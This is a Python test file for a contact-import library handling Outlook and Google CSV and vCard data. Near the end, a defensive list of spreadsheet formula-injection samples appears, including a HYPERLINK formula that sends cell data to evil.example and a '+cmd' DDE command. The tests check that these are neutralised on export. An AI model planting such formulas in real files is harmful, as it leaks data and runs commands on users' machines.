"""Reading Outlook and Google CSV and vCard files, and writing Outlook's CSV: pure functions."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bridge.demo.people import people
from bridge.files.dates import is_no_date, iso_date
from bridge.files.found import FoundCard, FoundContact, Refusal, UnknownFile
from bridge.files.outlook_rows import header, outlook_from_contact
from bridge.files.reading import read
from bridge.files.table import guarded, unguarded
from storage_plugin.model.contact import Contact, Email, ImportantDate, Messenger, Phone, PostalAddress, Url

ENGLISH = (
    "Title,First Name,Middle Name,Last Name,Suffix,Company,Department,Job Title,Business Street,Business Street 2,"
    "Business City,Business State,Business Postal Code,Business Country/Region,Home City,Business Phone,"
    "Business Phone 2,Mobile Phone,Primary Phone,Birthday,Categories,E-mail Address,E-mail 2 Address,Gender,Hobby,"
    "Notes,Priority,Web Page,Anniversary,Customer ID\r\n"
    "Dr.,Anna,Maria,Müller,Jr.,Contoso,Sales,Manager,Main St. 1,Floor 2,"
    "Berlin,BE,10115,Germany,Potsdam,+49 30 1,"
    "+49 30 2,+49 170 3,+49 170 3,4/15/1996,VIP;Customer,anna@x.example,am@y.example,Unspecified,Golf,"
    '"First line\r\nSecond, line",Normal,https://x.example,0/0/00,10042\r\n'
)
GERMAN = (
    '"Anrede";"Vorname";"Nachname";"Firma";"Straße geschäftlich";"Ort geschäftlich";"Postleitzahl geschäftlich";'
    '"Land/Region geschäftlich";"Telefon geschäftlich";"Mobiltelefon";"Weiteres Telefon";"Geburtstag";"Kategorien";'
    '"E-Mail-Adresse";"E-Mail 2: Adresse";"Notizen";"Privat";"Weitere Straße";"Kundennummer"\r\n'
    '"Frau";"Jürgen";"Groß";"Bäcker & Söhne";"Am Markt 3";"Köln";"50667";'
    '"Deutschland";"0221 1";"0170 2";"0221 3";"15.4.1996";"Kunde";'
    '"j@x.example";"k@x.example";"50 € Rabatt";"Falsch";"Hinterhof 1";"K-7"\r\n'
)


def only(body):
    (found,) = read(body)
    return found


def test_outlook_in_english():
    found = only(ENGLISH.encode())
    assert found == FoundContact(
        2,
        Contact(
            formatted_name="Dr. Anna Maria Müller Jr.",
            prefix="Dr.",
            given_name="Anna",
            middle_name="Maria",
            family_name="Müller",
            suffix="Jr.",
            company="Contoso",
            department="Sales",
            job_title="Manager",
            birthday="1996-04-15",
            note="First line\r\nSecond, line\nHobby: Golf",
            emails=(Email("anna@x.example"), Email("am@y.example")),
            phones=(
                Phone("+49 30 1", "work"),
                Phone("+49 30 2", "work"),
                Phone("+49 170 3", "mobile", preferred=True),
            ),
            addresses=(
                PostalAddress("", "", "Main St. 1\nFloor 2", "Berlin", "BE", "10115", "Germany", kind="work"),
                PostalAddress(city="Potsdam", kind="home"),
            ),
            urls=(Url("https://x.example", "work"),),
            categories=("VIP", "Customer"),
        ),
        "10042",
    )


@pytest.mark.parametrize("charset", ["utf-8", "utf-8-sig", "cp1252", "utf-16", "utf-16-le"])
def test_outlook_in_german_in_every_character_set(charset):
    found = only(GERMAN.encode(charset))
    contact = found.contact
    assert (contact.given_name, contact.family_name, contact.company) == ("Jürgen", "Groß", "Bäcker & Söhne")
    assert contact.birthday == "1996-04-15"
    assert contact.note == "50 € Rabatt"
    assert contact.emails == (Email("j@x.example"), Email("k@x.example"))
    assert contact.phones == (Phone("0221 1", "work"), Phone("0170 2", "mobile"), Phone("0221 3", "other"))
    assert contact.addresses == (
        PostalAddress(street="Am Markt 3", city="Köln", postal_code="50667", country="Deutschland", kind="work"),
        PostalAddress(street="Hinterhof 1", kind="other"),
    )
    assert contact.categories == ("Kunde",)
    assert found.customer_number == "K-7"


def test_google_of_2024():
    body = (
        "First Name,Middle Name,Last Name,Phonetic First Name,Name Prefix,Nickname,File As,Organization Name,"
        "Organization Title,Organization Department,Birthday,Notes,Photo,Labels,E-mail 1 - Label,E-mail 1 - Value,"
        "E-mail 2 - Label,E-mail 2 - Value,Phone 1 - Label,Phone 1 - Value,Phone 2 - Label,Phone 2 - Value,"
        "Address 1 - Label,Address 1 - Formatted,Address 1 - Street,Address 1 - City,Address 1 - Country,"
        "Relation 1 - Label,Relation 1 - Value,Website 1 - Label,Website 1 - Value,Event 1 - Label,Event 1 - Value,"
        "Custom Field 1 - Label,Custom Field 1 - Value\n"
        "太郎,,山田,たろう,,,,株式会社,部長,営業,--04-15,メモ,https://x.example/p.jpg,* myContacts ::: VIP,"
        "* Work,t@x.example,Urlaub,u@x.example ::: v@x.example,Mobile,+81 90 1,Work Fax,+81 3 2,"
        "Home,ignored,丸の内1,東京,JP,Spouse,花子,Blog,https://b.example,Customer since,2020-01-02,Shoe size,42\n"
    )
    contact = only(body.encode()).contact
    assert contact.formatted_name == "太郎 山田"
    assert contact.phonetic_given_name == "たろう"
    assert contact.birthday == "--04-15"
    assert contact.categories == ("VIP",)
    assert contact.emails == (
        Email("t@x.example", "work", preferred=True),
        Email("u@x.example", "", "Urlaub"),
        Email("v@x.example", "", "Urlaub"),
    )
    assert contact.phones == (Phone("+81 90 1", "mobile"), Phone("+81 3 2", "work_fax"))
    assert contact.addresses == (
        PostalAddress(street="丸の内1", city="東京", country="JP", country_code="JP", kind="home"),
    )
    assert contact.spouse == "花子"
    assert contact.urls == (Url("https://b.example", "", "Blog"),)
    assert contact.dates == (ImportantDate("2020-01-02", "Customer since"),)
    assert contact.note == "メモ\nShoe size: 42"
    assert contact.photo == "https://x.example/p.jpg"


def test_google_of_before():
    body = (
        "Name,Given Name,Family Name,Group Membership,E-mail 1 - Type,E-mail 1 - Value,IM 1 - Type,IM 1 - Service,"
        "IM 1 - Value,Organization 1 - Type,Organization 1 - Name,Organization 1 - Title\n"
        "Zoë Q,Zoë,Q,Friends ::: * My Contacts,* Home,z@x.example,Work,Skype,zoe,,Contoso,Boss\n"
    )
    contact = only(body.encode()).contact
    assert (contact.formatted_name, contact.company, contact.job_title) == ("Zoë Q", "Contoso", "Boss")
    assert contact.messengers == (Messenger("zoe", "skype", "work"),)
    assert contact.emails == (Email("z@x.example", "home", preferred=True),)
    assert contact.categories == ("Friends",)


def test_a_row_without_a_person_is_a_company():
    contact = only(b"First Name,Last Name,Company\n,,Contoso\n").contact
    assert contact.is_company
    assert contact.formatted_name == "Contoso"


def test_what_cannot_be_taken_is_named_with_its_line():
    body = b'First Name,Last Name,Notes\nAnna,A,ok\n,,only a note\nToo,Many,cells,here\n"Never,closed\nBen,B\n'
    good, empty, long, unclosed = read(body)
    assert good.contact.given_name == "Anna"
    assert (empty.line, long.line, unclosed.line) == (3, 4, 5)
    assert "no name" in empty.reason
    assert "more cells" in long.reason


def test_lines_are_counted_across_cells_of_several_lines():
    body = b'First Name,Notes\nA,"1\n2\n3"\n,x\n'
    assert [found.line for found in read(body)] == [2, 5]


def test_a_date_that_is_none_is_remarked():
    found = only(b"First Name,Birthday\nAnna,last Tuesday\n")
    assert found.contact.birthday == ""
    assert found.remarks == ("the birthday 'last Tuesday' is no date and was left out",)


@pytest.mark.parametrize("body", [b"", b"\0\0\0", b"hello", b"a,b,c\n1,2,3\n", b"%PDF-1.7 \xff\xfe", b'"'])
def test_a_file_without_contacts_is_told_so(body):
    with pytest.raises(UnknownFile):
        list(read(body))


def test_one_bad_card_of_a_thousand_leaves_the_others():  # VC-79
    cards = [f"BEGIN:VCARD\r\nVERSION:3.0\r\nUID:{n}\r\nFN:P{n}\r\nEND:VCARD\r\n" for n in range(1000)]
    cards[499] = "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:cut off\r\n"
    found = list(read("".join(cards).encode()))
    assert sum(isinstance(each, FoundCard) for each in found) == 999
    (refusal,) = (each for each in found if isinstance(each, Refusal))
    assert refusal.line == 499 * 5 + 1
    assert "END:VCARD" in refusal.reason


@pytest.mark.parametrize(
    ("text", "day_first", "value"),
    [
        ("1996-04-15", False, "1996-04-15"),
        ("1996-4-5T00:00:00", False, "1996-04-05"),
        ("15.4.1996", False, "1996-04-15"),
        ("4/15/1996", False, "1996-04-15"),
        ("15/4/1996", False, "1996-04-15"),
        ("3/4/1996", False, "1996-03-04"),
        ("3/4/1996", True, "1996-04-03"),
        ("--04-15", False, "--04-15"),
        ("--02-29", False, "--02-29"),
        ("31.2.1996", False, ""),
        ("circa 1800", False, ""),
    ],
)
def test_dates(text, day_first, value):
    assert iso_date(text, day_first=day_first) == value


@pytest.mark.parametrize("text", ["", " ", "0/0/00", "00.00.00", "0000-00-00", "1/1/4501"])
def test_outlooks_empty_dates(text):
    assert is_no_date(text)


def written(contacts):
    rows = [outlook_from_contact(contact, customer_number=str(at)) for at, contact in enumerate(contacts)]
    text = io.StringIO()
    table = csv.DictWriter(text, header(rows))
    table.writeheader()
    table.writerows(rows)
    return text.getvalue().encode("utf-8-sig")


def test_what_is_exported_for_outlook_is_read_back():
    everyone = list(people())
    found = list(read(written(everyone)))
    assert [each.customer_number for each in found] == [str(at) for at in range(200)]
    for before, after in zip(everyone, (each.contact for each in found), strict=True):
        for name in ("formatted_name", "given_name", "family_name", "company", "birthday", "note", "categories"):
            assert getattr(after, name) == getattr(before, name)
        assert [each.address for each in after.emails] == [each.address for each in before.emails]
        assert {each.number for each in after.phones} == {each.number for each in before.phones}
        assert [each.city for each in after.addresses] == [each.city for each in before.addresses]


def test_what_outlook_has_no_room_for_gets_columns_of_its_own():
    contact = Contact(
        formatted_name="A",
        emails=tuple(Email(f"{n}@x.example") for n in range(5)),
        phones=tuple(Phone(str(n), "work") for n in range(5)),
    )
    (found,) = read(written([contact]))
    assert found.contact.emails == contact.emails
    assert sorted(phone.number for phone in found.contact.phones) == ["0", "1", "2", "3", "4"]


@given(st.binary(max_size=300))
def test_any_bytes_are_read_or_refused(body):
    try:
        list(read(b"First Name,Last Name,Birthday\n" + body))
        list(read(body))
        list(read(b"BEGIN:VCARD\n" + body))
    except UnknownFile:
        pass


@given(
    st.lists(st.text(st.characters(exclude_categories=["Cs"]), min_size=1).filter(str.strip), unique=True, max_size=4)
)
def test_categories_survive(names):
    wanted = tuple(dict.fromkeys(" ".join(name.replace(";", "").replace("\0", "").split()) for name in names))
    wanted = tuple(name for name in wanted if name)
    (found,) = read(written([Contact(formatted_name="A", categories=wanted)]))
    assert found.contact.categories == wanted


FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+WEBSERVICE(A1)",
    "@SUM(1)",
    "\t=1",
    "＝1+1",
    "'=1+1",
    "''@SUM(1)",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_a_spreadsheet_would_calculate_is_written_as_text(cell):
    assert guarded(cell) == f"'{cell}"
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize(
    "cell",
    [
        "+49 30 1234",
        "+1 (425) 555-0100 ext. 5",
        "-",
        "+",
        "'t Hooft",
        "a=b",
        "+49 30 12 (home)",
        "",
        "-- Anna --",
        "'",
    ],
)
def test_what_people_write_stays_as_it_is(cell):
    assert guarded(cell) == unguarded(cell) == cell


@given(st.text(alphabet="'=+-@ \t(|!aA1＝", max_size=8))
def test_a_guard_is_taken_off_again(cell):
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize("cell", [cell for cell in FORMULAS if cell == cell.strip()])
def test_a_formula_in_a_name_comes_back_from_a_file_as_it_was(cell):
    rows = [{"First Name": guarded(cell), "Last Name": "x", "E-mail Address": "a@x.example"}]
    text = io.StringIO(newline="")
    table = csv.DictWriter(text, header(rows))
    table.writeheader()
    table.writerows(rows)
    found = only(text.getvalue().encode())
    assert isinstance(found, FoundContact) and found.contact.given_name == cell
